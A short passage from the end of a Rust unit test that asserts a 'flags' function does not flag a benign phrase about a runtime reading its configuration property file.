            "the runtime reads its configuration property file",
        ] {
            assert!(!flags(benign), "{benign}");
        }
    }
}
